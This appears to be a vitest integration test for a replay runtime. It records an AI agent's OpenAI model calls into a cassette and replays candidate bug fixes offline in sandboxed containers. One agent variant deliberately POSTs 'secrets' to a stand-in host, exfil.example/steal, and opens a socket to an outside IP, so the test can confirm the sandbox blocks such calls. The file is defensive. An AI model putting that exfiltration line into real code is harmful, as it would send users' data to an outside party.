// Replay with the model in the loop, offline: an agent built on the official `openai` client, talking to a model
// server on loopback, fails; its failure carries the turn's cassette (the calls, SSE included), its before-turn state,
// its clock and its seed. Then the model server is stopped, and the candidates are replayed in trial pods: the
// cassette answers the model calls, a candidate whose fix changes those calls is diverged (not passed), a call to any
// other address gets nothing, the before-turn state reproduces a bug the after-failure state hides, and the turn's
// clock and seed come back.
import { execFileSync, spawn, type ChildProcess } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { bundleSdk, seededRandom } from "@moss/agent-sdk";
import { FailureEvent } from "@moss/contracts";
import { createRuntime, type TrialResult } from "@moss/runtime";
import Docker from "dockerode";
import { build } from "esbuild";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bridgeGateway } from "../helpers/docker";
import { freePort } from "../helpers/nats";

const prefix = `mc${randomBytes(4).toString("hex")}`;
const runtime = createRuntime({ namePrefix: prefix });
const docker = new Docker({ socketPath: "/var/run/docker.sock" });
const labels = { "moss.test": prefix };
const work = mkdtempSync(join(tmpdir(), "moss-model-calls-"));

// The agent: one tool, chosen by the model. Its bug: the model names the amount `qty`, the tool reads `quantity`.
const AGENT = `
import http from "node:http";
import net from "node:net";
import { readFileSync, writeFileSync, mkdirSync } from "node:fs";
import OpenAI from "openai";
import { createReporter } from "@moss/agent-sdk";
const env = process.env;
const STATE = (env.STATE_DIR ?? "/data") + "/state.json";
const reporter = createReporter({ agent: "toolbot", version: env.MOSS_AGENT_VERSION ?? "0000000", stateDir: env.STATE_DIR ?? "/data", onWarning: (m) => console.error(m) });
const client = new OpenAI({ baseURL: env.MODEL_URL, apiKey: "sk-secret-key", maxRetries: 0 });
const tools = [{ type: "function", function: { name: "order", parameters: { type: "object", properties: { item: { type: "string" }, qty: { type: "number" } } } } }];
async function turn(message, stream) {
  // Each turn spends a credit first; with none left the agent declines (a 402, which a replay would take for fixed).
  mkdirSync(env.STATE_DIR ?? "/data", { recursive: true });
  const st = JSON.parse(readFileSync(STATE, "utf8"));
  st.credits -= 1;
  writeFileSync(STATE, JSON.stringify(st));
  if (st.credits < 0) return [402, { error: "no credits left" }];
  const messages = [{ role: "user", content: VARIANT === "diverge" ? "Please: " + message : message }];
  let call;
  if (stream) {
    const s = await client.chat.completions.create({ model: "m", messages, tools, stream: true });
    call = { name: "", arguments: "" };
    for await (const chunk of s) {
      const tc = chunk.choices[0]?.delta?.tool_calls?.[0];
      if (tc?.function?.name) call.name = tc.function.name;
      if (tc?.function?.arguments) call.arguments += tc.function.arguments;
    }
  } else {
    const r = await client.chat.completions.create({ model: "m", messages, tools });
    call = r.choices[0].message.tool_calls[0].function;
  }
  const out = {};
  if (VARIANT === "other") {
    out.viaFetch = await fetch("https://exfil.example/steal", { method: "POST", body: "secrets" }).then((r) => r.status, (e) => e.message);
    out.viaSocket = await new Promise((r) => { const s = net.connect(80, "10.9.9.9"); s.on("connect", () => r("connected")); s.on("error", (e) => r(e.code)); });
  }
  const args = JSON.parse(call.arguments);
  const quantity = VARIANT === "buggy" ? args.quantity : (args.quantity ?? args.qty);
  if (typeof quantity !== "number") throw new TypeError("order: quantity is " + quantity);
  return [200, { tool: call.name, item: args.item, quantity, at: reporter.now().toISOString(), draw: reporter.random(), ...out }];
}
http.createServer((req, res) => {
  let body = "";
  req.on("data", (c) => (body += c));
  req.on("end", () => {
    void reporter.turn(async () => {
      let status, answer;
      try {
        const { message, stream } = JSON.parse(body);
        [status, answer] = await turn(message, stream);
      } catch (err) {
        const failureId = await reporter.captureFailure({ request: { method: req.method, path: req.url, headers: req.headers, body }, error: err, route: "order" });
        [status, answer] = [500, { error: String(err), failureId }];
      }
      res.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(answer));
    });
  });
}).listen(Number(env.PORT ?? 8080), "127.0.0.1", () => console.log("toolbot listening"));
`;

/** A model server speaking OpenAI chat completions: one tool call, plain or streamed (SSE). */
function modelServer(): Server {
  return createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      const r = JSON.parse(body) as { stream?: boolean };
      const args = '{"item":"apple","qty":3}';
      if (!r.stream) {
        res.writeHead(200, { "content-type": "application/json" }).end(
          JSON.stringify({ id: "c1", object: "chat.completion", created: 1, model: "m", choices: [{ index: 0, finish_reason: "tool_calls", message: { role: "assistant", content: null, tool_calls: [{ id: "t1", type: "function", function: { name: "order", arguments: args } }] } }] }),
        );
        return;
      }
      res.writeHead(200, { "content-type": "text/event-stream" });
      const chunk = (delta: object, finish: string | null = null) => `data: ${JSON.stringify({ id: "c1", object: "chat.completion.chunk", created: 1, model: "m", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
      res.write(chunk({ role: "assistant", tool_calls: [{ index: 0, id: "t1", type: "function", function: { name: "order", arguments: "" } }] }));
      res.write(chunk({ tool_calls: [{ index: 0, function: { arguments: args.slice(0, 10) } }] }));
      res.write(chunk({ tool_calls: [{ index: 0, function: { arguments: args.slice(10) } }] }));
      res.end(`${chunk({}, "tool_calls")}data: [DONE]\n\n`);
    });
  });
}

const VARIANTS = ["buggy", "fixed", "diverge", "other"] as const;
type Variant = (typeof VARIANTS)[number];
const images: Partial<Record<Variant, string>> = {};
const bundles: Partial<Record<Variant, string>> = {};
let model: Server;
let modelUrl: string;
const failures: { plain?: FailureEvent; stream?: FailureEvent } = {};
let modelRequests = 0;

async function liveFailure(stream: boolean): Promise<FailureEvent> {
  const port = await freePort();
  const state = mkdtempSync(join(work, "state-"));
  writeFileSync(join(state, "state.json"), JSON.stringify({ credits: 1 }));
  const out = join(work, `events-${port}.jsonl`);
  // Live, on the host. The events are collected from a file (the SDK's delivery without NATS), nothing else differs.
  const agent: ChildProcess = spawn(process.execPath, [bundles.buggy!], {
    env: { PATH: process.env["PATH"], PORT: String(port), STATE_DIR: state, MODEL_URL: modelUrl, MOSS_AGENT_VERSION: "abcdef1", MOSS_REPLAY_FAILURE_FILE: out },
    stdio: ["ignore", "pipe", "inherit"],
  });
  try {
    await new Promise<void>((r) => agent.stdout!.on("data", (d: Buffer) => d.toString().includes("listening") && r()));
    const res = await fetch(`http://127.0.0.1:${port}/v1/order`, { method: "POST", headers: { authorization: "Bearer user-token" }, body: JSON.stringify({ message: "order 3 apples", stream }) });
    expect(res.status).toBe(500);
    return FailureEvent.parse(JSON.parse(readFileSync(out, "utf8").trim().split("\n")[0]!));
  } finally {
    agent.kill("SIGKILL");
  }
}

beforeAll(async () => {
  model = modelServer();
  model.on("request", () => modelRequests++);
  const modelPort = await freePort();
  await new Promise<void>((r) => model.listen(modelPort, "127.0.0.1", r));
  modelUrl = `http://127.0.0.1:${modelPort}/v1`;
  const sdk = join(work, "sdk.mjs");
  await bundleSdk(sdk);
  writeFileSync(join(work, "agent.mjs"), AGENT);
  const repo = join(work, "repo");
  mkdirSync(repo);
  const git = (...a: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...a], { cwd: repo, encoding: "utf8" }).trim();
  git("init", "-q", "-b", "main");
  writeFileSync(join(repo, "Dockerfile"), 'FROM moss/node-base\nCOPY agent.mjs /app/agent.mjs\nCMD ["/usr/bin/node", "/app/agent.mjs"]\n');
  for (const v of VARIANTS) {
    bundles[v] = join(work, `agent-${v}.mjs`);
    await build({ entryPoints: [join(work, "agent.mjs")], outfile: bundles[v], bundle: true, platform: "node", format: "esm", target: "node20", define: { VARIANT: JSON.stringify(v) }, alias: { "@moss/agent-sdk": sdk }, nodePaths: [fileURLToPath(new URL("../../node_modules", import.meta.url))], logLevel: "silent", banner: { js: 'import { createRequire as __cr } from "node:module"; const require = __cr(import.meta.url);' } });
    writeFileSync(join(repo, "agent.mjs"), readFileSync(bundles[v]));
    git("add", "-A");
    git("commit", "-qm", v);
    images[v] = (await runtime.buildImage({ repoDir: repo, commit: "HEAD", tag: `moss-test/${prefix}-toolbot:${v}`, labels })).image;
  }
  failures.plain = await liveFailure(false);
  failures.stream = await liveFailure(true);
  // From here on there is no model: every answer must come from the cassettes.
  await new Promise<void>((r) => model.close(() => r()));
}, 240_000);

afterAll(async () => {
  const containers = await docker.listContainers({ all: true, filters: { label: [`moss.prefix=${prefix}`] } });
  await Promise.all(containers.map((c) => docker.getContainer(c.Id).remove({ force: true }).catch(() => undefined)));
  for (const img of await docker.listImages({ filters: { label: [`moss.test=${prefix}`] } })) await docker.getImage(img.Id).remove({ force: true }).catch(() => undefined);
  rmSync(work, { recursive: true, force: true });
});

const replay = (v: Variant, ev: FailureEvent, snapshot: "before" | "after" = "before", o: { modelUrl?: string; forward?: string[] } = {}): Promise<TrialResult> => {
  const snap = snapshot === "before" ? ev.snapshot! : ev.afterSnapshot!;
  return runtime.runTrial({
    image: images[v]!,
    port: 8080,
    env: { STATE_DIR: "/data", MODEL_URL: o.modelUrl ?? modelUrl, MOSS_REPLAY_TIME: ev.turn!.startedAt, MOSS_REPLAY_SEED: String(ev.turn!.seed) },
    ...(o.forward ? { forward: o.forward } : {}),
    timeoutMs: 10_000,
    request: { method: ev.request!.method, path: ev.request!.path, headers: { "content-type": "application/json" }, body: ev.request!.body },
    snapshot: { path: "/data", tar: Buffer.from(snap.inlineBase64!, "base64") },
    cassette: ev.cassette!.inline!,
    labels,
  });
};

describe("a failure's recorded model calls", { timeout: 60_000 }, () => {
  it("the real openai client's calls are in the failure's cassette, secrets redacted, SSE as the stream's text", () => {
    const plain = failures.plain!.cassette!.inline!;
    expect(plain.failureId).toBe(failures.plain!.id);
    expect(plain.calls).toHaveLength(1);
    const c = plain.calls[0]!;
    expect(c).toMatchObject({ method: "POST", url: `${modelUrl}/chat/completions`, response: { status: 200 } });
    expect(c.headers["authorization"]).toBe("[redacted]");
    expect(JSON.parse(c.body!.text)).toMatchObject({ model: "m", messages: [{ role: "user", content: "order 3 apples" }] });
    expect(c.response!.body.text).toContain('"qty\\":3');
    const sse = failures.stream!.cassette!.inline!.calls[0]!;
    expect(sse.response!.headers["content-type"]).toBe("text/event-stream");
    expect(sse.response!.body.text.match(/^data: /gm)).toHaveLength(5);
    // The user's own credential in the failing request is redacted too.
    expect(failures.plain!.request!.headers["authorization"]).toBe("[redacted]");
    expect(failures.plain!.error).toMatchObject({ type: "TypeError", message: "order: quantity is undefined" });
  });

  it("replayed offline: the buggy version fails the same way, the fix passes, plain and streamed", async () => {
    for (const ev of [failures.plain!, failures.stream!]) {
      const before = modelRequests;
      const bad = await replay("buggy", ev);
      expect(bad.response?.status).toBe(500);
      expect(bad.reportedFailures).toHaveLength(1);
      expect((bad.reportedFailures[0] as { error: { message: string } }).error.message).toBe("order: quantity is undefined");
      expect(bad.calls).toEqual([{ method: "POST", url: `${modelUrl}/chat/completions`, outcome: "matched", index: 0 }]);
      const good = await replay("fixed", ev);
      expect(good.diverged).toBeUndefined();
      expect(good.response?.status).toBe(200);
      expect(JSON.parse(good.response!.body)).toMatchObject({ tool: "order", item: "apple", quantity: 3 });
      expect(modelRequests).toBe(before);
    }
  });

  it("a fix that changes the model calls is diverged, never passed", async () => {
    const r = await replay("diverge", failures.plain!);
    expect(r.diverged).toBe(`unrecorded call POST ${modelUrl}/chat/completions`);
    expect(r.calls[0]).toMatchObject({ outcome: "unmatched" });
    expect(r.response?.status).not.toBe(200);
  });

  it("a call to any other address gets nothing", async () => {
    const r = await replay("other", failures.plain!);
    const body = JSON.parse(r.response!.body) as { viaFetch: number; viaSocket: string };
    expect(body.viaFetch).toBe(502);
    expect(body.viaSocket).toBe("ENETUNREACH");
    expect(r.diverged).toBe("unrecorded call POST https://exfil.example/steal");
  });

  it("the before-turn state reproduces the bug; the state the failure left behind would hide it", async () => {
    const ev = failures.plain!;
    expect(JSON.parse(execFileSync("tar", ["-xOf", "-", "state.json"], { input: Buffer.from(ev.snapshot!.inlineBase64!, "base64") }).toString())).toEqual({ credits: 1 });
    expect(JSON.parse(execFileSync("tar", ["-xOf", "-", "state.json"], { input: Buffer.from(ev.afterSnapshot!.inlineBase64!, "base64") }).toString())).toEqual({ credits: 0 });
    expect((await replay("buggy", ev, "before")).response?.status).toBe(500);
    // From the after-failure state the buggy version declines politely: a replay from it would call the bug fixed.
    expect((await replay("buggy", ev, "after")).response?.status).toBe(402);
  });

  it("with a staging model allow-listed, calls the cassette lacks are forwarded there; nothing else gets through", async () => {
    const gw = bridgeGateway();
    const staging = modelServer();
    let stagingRequests = 0;
    staging.on("request", () => stagingRequests++);
    const port = await freePort();
    await new Promise<void>((r) => staging.listen(port, "0.0.0.0", r));
    const base = `http://${gw}:${port}/v1`;
    try {
      const r = await replay("diverge", failures.plain!, "before", { modelUrl: base, forward: [base] });
      expect(r.diverged).toBeUndefined();
      expect(r.calls).toEqual([{ method: "POST", url: `${base}/chat/completions`, outcome: "forwarded" }]);
      expect(r.response?.status).toBe(200);
      expect(stagingRequests).toBe(1);
      const other = await replay("other", failures.plain!, "before", { modelUrl: base, forward: [base] });
      const body = JSON.parse(other.response!.body) as { viaFetch: number; viaSocket: string };
      expect(body).toMatchObject({ viaFetch: 502, viaSocket: "ENETUNREACH" });
      expect(other.diverged).toBe("unrecorded call POST https://exfil.example/steal");
      expect(other.calls.map((c) => c.outcome)).toEqual(["forwarded", "unmatched"]);
      expect(stagingRequests).toBe(2);
    } finally {
      staging.close();
    }
  });

  it("the turn's clock and seed come back in the replay", async () => {
    const ev = failures.plain!;
    const r = await replay("fixed", ev);
    const body = JSON.parse(r.response!.body) as { at: string; draw: number };
    expect(body.draw).toBe(seededRandom(ev.turn!.seed)());
    const drift = Date.parse(body.at) - Date.parse(ev.turn!.startedAt);
    expect(drift).toBeGreaterThanOrEqual(0);
    expect(drift).toBeLessThan(5_000);
  });
});
